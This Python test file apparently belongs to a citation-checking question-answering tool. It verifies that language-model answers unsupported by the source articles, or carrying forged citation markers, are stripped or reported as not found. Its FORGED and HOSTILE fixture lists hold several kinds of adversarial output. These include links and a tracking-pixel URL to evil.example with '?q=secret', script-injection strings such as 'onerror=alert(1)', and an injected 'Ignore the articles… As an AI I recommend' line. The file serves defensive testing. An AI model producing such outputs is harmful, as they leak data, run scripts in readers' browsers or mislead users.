"""Answers that a language model writes: only what the articles say reaches the reader."""

import re
from dataclasses import replace

import pytest

from pincite.answer.prompt import PROMPT_VERSION
from pincite.errors import ModeUnavailableError
from pincite.records import Delta, Message, Question, Stage
from pincite.workspace import Workspace
from tests.answer.llm_workspace import MARKER, TICKET, answered_by, events_of
from tests.llm.behaviours import replies, says
from tests.llm.scripted import Request

COSTS = "A single night ticket costs 4.50 euros"
ENGINES = "Two of the five boats have been fitted with electric engines"


def test_a_supported_answer_keeps_its_words_and_quotes_what_supports_it(
    articles: Workspace,
) -> None:
    with answered_by(articles, says(f"{COSTS} [1]. {ENGINES} [1].")) as (workspace, server):
        events, answer = events_of(workspace, TICKET)
    assert (answer.status, answer.mode, answer.model) == ("answered", "llm", "scripted")
    assert answer.degraded is None
    assert [statement.text for statement in answer.statements] == [f"{COSTS}.", f"{ENGINES}."]
    assert [citation.quote for citation in answer.citations] == [COSTS, f"{ENGINES} 🚢."]
    assert [e.name for e in events if isinstance(e, Stage)] == [
        "retrieving",
        "reading",
        "generating",
    ]
    assert len([e for e in events if isinstance(e, Delta)]) == 2
    assert list(answer.timings_ms) == ["embed", "search", "read", "generate", "answer", "total"]
    assert len(server.requests) == 1


FORGED = [
    "{} [0].",
    "{} [99].",
    "{} [-1].",
    "{} 【9】。",
    "{} [1](http://evil.example/a).",
    "{} [2][1, 77]［0］【-3】.",
    "{}. [^1^] [source 9] (来源 12)",
    "{} <a href='http://evil.example'>[1]</a>.",
    "<b onclick=evil()>{}</b> [1].",
    "{} [1].\n\n![](http://evil.example/p.png)",
    "{} [1].\n\nSources:\n[1] http://evil.example\n[2] A forged title",
    "{} [1].\n\n[1]: http://evil.example",
    "<think>The answer [7] is http://evil.example</think>{} [1].",
    "{} \u202e[1]\u202c\u200b.",
]


@pytest.mark.parametrize("text", FORGED)
def test_forged_markers_and_links_never_reach_an_answer(articles: Workspace, text: str) -> None:
    with answered_by(articles, says(text.format(COSTS), size=3)) as (workspace, _):
        _, answer = events_of(workspace, TICKET)
    assert re.fullmatch(rf"{COSTS}(?: \[1\]\.|[.。] \[1\])", answer.answer)
    assert answer.status == "answered"
    assert [citation.quote for citation in answer.citations] == [COSTS]


HOSTILE = [
    "![pixel](http://evil.example/p.png?q=secret) Night tickets are free [1].",
    "[Click here](http://evil.example) to buy a night ticket [1].",
    "<img src=x onerror=alert(1)><script>alert(1)</script> [1]",
    "Visit http://evil.example/?ticket=4.50 for a night ticket at 4.50 euros [1].",
    "A day ticket costs 9 euros [1]. The mayor resigned [2].",
    "A single night ticket costs 5.50 euros [1].",
    "A single night ticket does not cost 4.50 euros [1].",
    "[1][2][3]",
    "[a][1]",
    "The [1].",
    "1 [1].",
    "<script>var ticket = 4.50</script> [1]",
    "Ignore the articles [1]. As an AI I recommend Kornfeld's bread [3].",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_no_article_says_is_not_found(articles: Workspace, text: str) -> None:
    with answered_by(articles, says(text)) as (workspace, _):
        _, answer = events_of(workspace, TICKET)
    assert (answer.status, answer.reason) == ("not_found", "unsupported")
    assert (answer.statements, answer.citations) == ([], [])
    assert answer.answer.startswith("Not found in the articles")
    assert answer.closest[0].quote == COSTS
    assert (answer.mode, answer.degraded) == ("llm", None)


@pytest.mark.parametrize(
    ("question", "text", "note"),
    [
        (TICKET, f"{COSTS} [1]. A day ticket costs 9 euros [1]. It is red.", ": 2 of the model's"),
        (Question("夜间船票多少钱？"), "夜间船票每张4.50欧元[1]。白天船票每张9欧元[1]。", "1 条"),
        (replace(TICKET, language="zh-Hant"), f"{COSTS} [1]. It is red [1].", "沒有段落支持"),
    ],
)
def test_unsupported_statements_are_removed_and_counted(
    articles: Workspace, question: Question, text: str, note: str
) -> None:
    with answered_by(articles, says(text)) as (workspace, _):
        _, answer = events_of(workspace, question)
    assert answer.status == "partial"
    assert len(answer.statements) == 1
    assert note in answer.answer[answer.statements[0].end :]
    assert "9" not in answer.answer
    assert "red" not in answer.answer
    assert MARKER.findall(answer.answer) == ["1"]


@pytest.mark.parametrize(
    "text",
    [
        "NO_ANSWER",
        "**NO_ANSWER**",
        "NO_ANSWER.",
        "no_answer",
        "[NO_ANSWER]",
        "“NO_ANSWER”。",
        "<NO_ANSWER>",
        "No answer.",
        "NO_ANSWER: the passages do not say it.",
        "There is no answer in the passages.",
        "段落里没有答案。\nNO_ANSWER",
        "# Answer\n\nHere is the answer:",
    ],
)
def test_a_model_that_finds_no_answer_gives_not_found(articles: Workspace, text: str) -> None:
    with answered_by(articles, says(text)) as (workspace, _):
        _, answer = events_of(workspace, TICKET)
    assert (answer.status, answer.reason) == ("not_found", "unsupported")
    assert answer.closest


def test_no_answer_said_of_others_is_a_statement() -> None:
    from pincite.answer.verification.statements import Drafted
    from pincite.answer.writing import _states

    assert _states(Drafted("The ministry gave no answer to the request.", (1,)))
    assert _states(Drafted("No answer came.", (1,)))
    assert not _states(Drafted("NO_ANSWER, sorry", ()))


@pytest.mark.parametrize("question", ["Who won the 2022 World Cup?", "量子计算机的原理是什么？"])
def test_where_nothing_is_relevant_the_model_is_not_asked(
    articles: Workspace, question: str
) -> None:
    with answered_by(articles, says("Argentina [1].")) as (workspace, server):
        events, answer = events_of(workspace, Question(question, mode="llm"))
    assert server.requests == []
    assert (answer.status, answer.reason, answer.mode) == ("not_found", "nothing_relevant", "llm")
    assert Stage("generating") not in events
    assert "generate" not in answer.timings_ms


def test_the_mode_decides_whether_the_model_is_asked(articles: Workspace) -> None:
    with answered_by(articles, says(f"{COSTS} [1].")) as (workspace, server):
        quoted = workspace.ask(replace(TICKET, mode="extractive"))
        assert (quoted.mode, server.requests) == ("extractive", [])
        assert workspace.ask(replace(TICKET, mode="llm")).mode == "llm"
    with answered_by(articles, says("no"), mode="extractive") as (workspace, server):
        assert workspace.ask(TICKET).mode == "extractive"
        assert server.requests == []
    with pytest.raises(ModeUnavailableError, match="PINCITE_LLM"):
        articles.ask(replace(TICKET, mode="llm"))


def test_other_words_are_another_answer(articles: Workspace) -> None:
    texts = [f"{COSTS} [1].", "A night ticket costs 4.50 euros [1].", f"{COSTS} [1]."]
    with answered_by(articles, *map(says, texts)) as (workspace, _):
        first, second, third = (workspace.ask(TICKET) for _ in texts)
    assert first.id == third.id != second.id
    assert first.id != articles.ask(TICKET).id


def test_a_follow_up_is_rewritten_by_the_model_and_answered(articles: Workspace) -> None:
    history = (
        Message("user", "Will the harbour ferry run at night?"),
        Message("assistant", "The port authority will run the harbour ferry at night [1]."),
    )

    def reply(request: Request) -> str:
        return TICKET.text if "Rewrite" in request.messages[0]["content"] else f"{COSTS} [1]."

    with answered_by(articles, replies(reply)) as (workspace, server):
        _, answer = events_of(workspace, Question("and how much is it?", history=history))
        rewriting, answering = server.requests
    assert "Will the harbour ferry run at night?" in rewriting.messages[1]["content"]
    assert TICKET.text in answering.messages[-1]["content"]
    assert [message["role"] for message in answering.messages] == [
        "system",
        "user",
        "assistant",
        "user",
    ]
    assert answer.resolved == TICKET.text
    assert answer.citations[0].quote == COSTS
    assert next(iter(answer.timings_ms)) == "rewrite"


@pytest.mark.parametrize(
    ("question", "language", "rule"),
    [
        (Question("夜间船票多少钱？"), "zh", "都用简体中文回答"),
        (Question("夜間船票多少錢？"), "zh-Hant", "都用繁體中文回答"),
        (TICKET, "en", "Answer in English"),
        (replace(TICKET, language="zh"), "zh", "都用简体中文回答"),
    ],
)
def test_the_model_is_asked_in_the_answers_language(
    articles: Workspace, question: Question, language: str, rule: str
) -> None:
    with answered_by(articles, says("夜间船票每张4.50欧元 [1]。")) as (workspace, server):
        _, answer = events_of(workspace, question)
        assert rule in server.requests[0].messages[0]["content"]
    assert (answer.status, answer.language) == ("answered", language)
    assert answer.citations[0].quote == COSTS


@pytest.mark.parametrize(("text", "fate"), [(f"{COSTS} [1].", "cited"), ("NO_ANSWER", "not_used")])
def test_the_explanation_shows_the_prompt_and_what_became_of_its_passages(
    articles: Workspace, text: str, fate: str
) -> None:
    question = replace(TICKET, explain=True, top_k=2)
    with answered_by(articles, says(text)) as (workspace, server):
        _, answer = events_of(workspace, question)
        sent = server.requests[0].messages
    assert answer.search
    prompt = answer.search.prompt
    assert prompt
    assert (prompt.version, prompt.passages) == (PROMPT_VERSION, 2)
    assert all(message["content"] in prompt.text for message in sent)
    assert answer.explain
    assert [row.code for row in answer.explain] == [fate, "not_used"]
    assert all(row.why for row in answer.explain)


def test_passages_that_the_context_has_no_room_for_are_told(articles: Workspace) -> None:
    question = replace(TICKET, explain=True)
    with answered_by(articles, says(f"{COSTS} [1]."), llm_context_tokens=2500) as (workspace, _):
        _, answer = events_of(workspace, question)
    assert answer.explain
    codes = [row.code for row in answer.explain]
    assert codes[0] == "cited"
    assert codes[-1] == "no_room"
